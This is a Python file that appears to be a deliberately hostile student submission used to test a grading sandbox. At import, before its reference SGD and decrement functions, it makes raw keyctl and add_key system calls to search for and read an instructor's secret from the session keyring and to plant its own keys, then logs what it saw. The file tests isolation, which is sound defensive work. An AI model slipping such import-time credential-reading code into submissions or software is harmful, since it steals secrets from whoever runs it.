"""Reaches for the keys of the grader's session. The grader runs from an instructor's login
session, whose keyring may hold a token or a password; a job forked from it kept that session
keyring through setuid, so it possessed those keys: it read one and added its own. At import
this file searches its session keyring for `dojo-instructor-secret` (test_grade_inputs.py puts
it in the session that starts the grader), reads it and the keyring's list, adds a key of its own
to its session, user and user-session keyrings, and prints what it saw (a line
DOJO-HOSTILE-KEYS {...} in its log, which the test reads). The rest is the reference answer.
Expect: every key system call fails with EPERM (the job's seccomp filter; under it, a fresh
session keyring of its own), the instructor's session keyring holds only its secret after the
run, and the kata scores what the reference earns: 10."""

import ctypes
import json
import os

import torch

_ADD_KEY, _KEYCTL = {"x86_64": (248, 250), "aarch64": (217, 219)}.get(os.uname().machine, (0, 0))
_libc = ctypes.CDLL(None, use_errno=True)


def _call(number, *args):
    args = [ctypes.c_char_p(a) if isinstance(a, bytes) else ctypes.c_long(a) for a in args]
    result = _libc.syscall(ctypes.c_long(number), *args)
    return result if result >= 0 else -ctypes.get_errno()


def _read(serial):
    buffer = ctypes.create_string_buffer(4096)
    size = _call(_KEYCTL, 11, serial, ctypes.addressof(buffer), 4096)  # KEYCTL_READ
    return buffer.raw[:size] if size >= 0 else size


_saw = {"secret": _call(_KEYCTL, 10, -3, b"user", b"dojo-instructor-secret", 0)}  # SEARCH @s
if _saw["secret"] > 0:
    _saw["read"] = _read(_saw["secret"]).decode("latin-1")
_members = _read(-3)
_saw["session keyring"] = len(_members) // 4 if isinstance(_members, bytes) else _members
_saw["added"] = {str(where): _call(_ADD_KEY, b"user", b"left by a student", b"x", 1, where)
                 for where in (-3, -4, -5)}  # session, user, user session
print("DOJO-HOSTILE-KEYS " + json.dumps(_saw), flush=True)


def sgd_step(params, lr):
    with torch.no_grad():
        for param in params:
            param -= lr * param.grad
            param.grad.zero_()


def decrement_all(values, amount):
    with torch.no_grad():
        for i, value in enumerate(values):
            if isinstance(value, torch.Tensor):
                value -= amount
            else:
                values[i] = value - amount
